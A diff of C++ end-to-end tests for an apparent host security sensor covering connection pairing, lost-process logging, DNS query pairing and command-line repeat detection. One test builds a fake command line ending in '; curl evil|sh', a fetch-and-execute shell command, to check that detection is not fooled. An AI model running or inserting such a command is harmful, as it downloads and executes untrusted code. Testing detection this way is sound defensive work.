@@ -258,7 +258,7 @@ struct NetE2E : ::testing::Test {
 };
 
 TEST_F(NetE2E, ConnectPairedWithItsEstablishment) {
-    start();
+    start("community_id = 1\n");
     conn_rec c;
     inject(build_conn(c));
     conn_rec e = c;
@@ -434,7 +434,7 @@ TEST_F(NetE2E, PerDestinationAndTotalCaps) {
 }
 
 TEST_F(NetE2E, DnsQueryAnsweredAndOneNeverAnswered) {
-    start();
+    start("community_id = 1\n");
     // The vector's question is web.example.test, a CNAME chain ending in two addresses.
     conn_rec q;
     q.type = 10, q.proto = 17, q.sip = "127.0.0.1", q.sport = 41000, q.dip = "127.0.0.1";
@@ -599,27 +599,36 @@ TEST_F(NetE2E, Ipv6RecordsDecodedOnlyWithTheKey) {
     }
 }
 
+// Records of a process nobody can describe are each lost (counted); with net_owner_backoff
+// the burst asks for it once, without it every record asks.
 TEST_F(NetE2E, RecordsOfAProcessThatIsGoneAskForItOnce) {
-    start();
-    conn_rec u;
-    u.type = 5, u.proto = 17, u.pid = 3999999, u.create_time = 77;  // no such process
-    for (uint16_t i = 0; i < 6; i++) {
-        u.dport = (uint16_t)(7000 + i);
-        inject(build_conn(u));
+    size_t seen = 0;
+    for (int backoff : {0, 1}) {
+        SCOPED_TRACE(backoff);
+        start("net_owner_backoff = " + std::to_string(backoff) + "\n");
+        const int64_t lost = kiv_stat_get(NET_PROC_INFO_LOST);
+        conn_rec u;
+        u.type = 5, u.proto = 17, u.pid = 3999999, u.create_time = 77;  // no such process
+        for (uint16_t i = 0; i < 6; i++) {
+            u.dport = (uint16_t)(7000 + i);
+            inject(build_conn(u));
+        }
+        ASSERT_TRUE(wait_for([&] { return kiv_stat_get(NET_PROC_INFO_LOST) == lost + 6; }));
+        // Another process's record still goes through.
+        conn_rec ok;
+        ok.type = 5, ok.proto = 17;
+        inject(build_conn(ok));
+        ASSERT_TRUE(wait_for([] { return count(UPLOAD_NET_CONNECT) == 1; }));
+        ulog_save_once();
+        std::string log = tree.read("logs/sensor_all.log");
+        size_t n = 0;
+        for (size_t at = seen;
+             (at = log.find("get process info failed,pid:3999999", at)) != std::string::npos; at++)
+            n++;
+        seen = log.size();
+        EXPECT_EQ(n, backoff ? 1u : 6u);
+        host_stop();
     }
-    ASSERT_TRUE(wait_for([] { return kiv_stat_get(NET_PROC_INFO_LOST) == 6; }));
-    // Another process's record still goes through.
-    conn_rec ok;
-    ok.type = 5, ok.proto = 17;
-    inject(build_conn(ok));
-    ASSERT_TRUE(wait_for([] { return count(UPLOAD_NET_CONNECT) == 1; }));
-    ulog_save_once();
-    std::string log = tree.read("logs/sensor_all.log");
-    size_t n = 0;
-    for (size_t at = 0;
-         (at = log.find("get process info failed,pid:3999999", at)) != std::string::npos; at++)
-        n++;
-    EXPECT_EQ(n, 1u);
 }
 
 TEST_F(NetE2E, ShortRecordsAndFullTables) {
@@ -686,8 +695,8 @@ std::string crc_twin(const std::string &text, uint32_t want) {
     return out;
 }
 
-// A checksum twin is never a repeat; with repeat_key_full neither is a longer command or
-// another user's, while off only the first 171 characters count, as they always did.
+// With repeat_key_full a checksum twin is never a repeat, nor is a longer command or another
+// user's; off, the first 171 characters count and their checksum decides, as they always did.
 TEST_F(NetE2E, RepeatKeysMatchOnTheirTextNotOnAChecksum) {
     start();
     const std::string honest = "update.example.test";
@@ -711,8 +720,8 @@ TEST_F(NetE2E, RepeatKeysMatchOnTheirTextNotOnAChecksum) {
         EXPECT_EQ(check_send_time(&p, &n, honest.c_str()), 0);
         EXPECT_EQ(check_send_time(&p, &n, honest.c_str()), -1);
         const int64_t twins = kiv_stat_get(NET_REPEAT_KEY_MISMATCH);
-        EXPECT_EQ(check_send_time(&p, &n, twin.c_str()), 0);
-        EXPECT_GT(kiv_stat_get(NET_REPEAT_KEY_MISMATCH), twins);
+        EXPECT_EQ(check_send_time(&p, &n, twin.c_str()), full ? 0 : -1);
+        EXPECT_EQ(kiv_stat_get(NET_REPEAT_KEY_MISMATCH) > twins, full == 1);
         // The same first 171 characters, another command after them; then another user.
         process_st_public other = p;
         snprintf(other.cmd_line, sizeof other.cmd_line, "%s", (prefix + "; curl evil|sh").c_str());
@@ -802,7 +811,7 @@ bytes dns_answer(uint16_t id, const std::string &name, uint8_t last) {
 // out alone after its time-out; off, the second replaces the first. A query the full table
 // cannot hold goes out at once.
 TEST_F(NetE2E, SecondQueryOnOneSocketNeverHidesTheFirst) {
-    start("dns_query_hash_size = 2\ncommunity_id_seed = 1\n");
+    start("dns_query_hash_size = 2\ndns_pair_by_name = 1\ncommunity_id = 1\ncommunity_id_seed = 1\n");
     conn_rec q;
     q.type = 10, q.proto = 6, q.sip = "127.0.0.1", q.sport = 42000, q.dip = "127.0.0.1";
     q.dport = 53;
@@ -858,6 +867,29 @@ TEST_F(NetE2E, SecondQueryOnOneSocketNeverHidesTheFirst) {
     // Without the Community ID the document is as it always was: the server only as its result.
     for (const char *key : {"community_id", "dst_ip", "dst_port", "protocol"})
         EXPECT_EQ(value_of(docs(UPLOAD_DNS_QUERY)[0], key), "") << key;
+}
+
+// A name with a blank in a label, as a kernel that copies label bytes names the query: with
+// dns_name_escape the document shows it escaped, and the answer, parsed into that form,
+// still pairs with the raw query; without, both are the raw bytes.
+TEST_F(NetE2E, DnsNamesPairInEitherFormAndPrintAsTheKeySays) {
+    for (int escape : {0, 1}) {
+        SCOPED_TRACE(escape);
+        start("dns_pair_by_name = 1\ndns_name_escape = " + std::to_string(escape) + "\n");
+        conn_rec q;
+        q.type = 10, q.proto = 6, q.sip = "127.0.0.1", q.sport = 43000, q.dip = "127.0.0.1";
+        q.dport = 53, q.dns_name = "my host.example.test";
+        inject(build_conn(q));
+        conn_rec r = q;
+        r.type = 11, r.dns_name.clear(), r.dns_msg = dns_answer(7, q.dns_name, 9);
+        inject(build_conn(r));
+        ASSERT_TRUE(wait_for([] { return count(UPLOAD_DNS_QUERY) == 1; }));
+        const std::string d = docs(UPLOAD_DNS_QUERY)[0];
+        EXPECT_EQ(value_of(d, "query_name"),
+                  escape ? "my\\\\032host.example.test" : "my host.example.test");
+        EXPECT_EQ(value_of(d, "query_results"), "192.0.2.9");
+        host_stop();
+    }
 }
 
 // DNS documents are limited per process and minute: the flooding process loses its own,
